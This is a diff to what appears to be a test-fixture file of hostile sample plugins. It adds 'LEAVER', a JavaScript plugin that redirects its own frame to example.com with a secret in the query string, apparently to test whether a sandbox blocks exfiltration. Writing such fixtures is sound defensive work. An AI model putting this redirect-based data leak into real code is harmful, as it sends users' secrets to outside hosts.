@@ -142,7 +142,12 @@ export default {
 }
 """  # noqa: E501 - as above
 
-HOSTILE = {"loud": LOUD, "burglar": BURGLAR}
+# Carries what it knows away in the address that it sends its own frame to.
+LEAVER = """\
+export default { id: 'leaver', name: 'Leaver', register(ctx) { location.href = 'https://example.com/?secret=1' } }
+"""
+
+HOSTILE = {"loud": LOUD, "burglar": BURGLAR, "leaver": LEAVER}
 
 
 def save_all(root: Path, plugins: Mapping[str, str]) -> None:
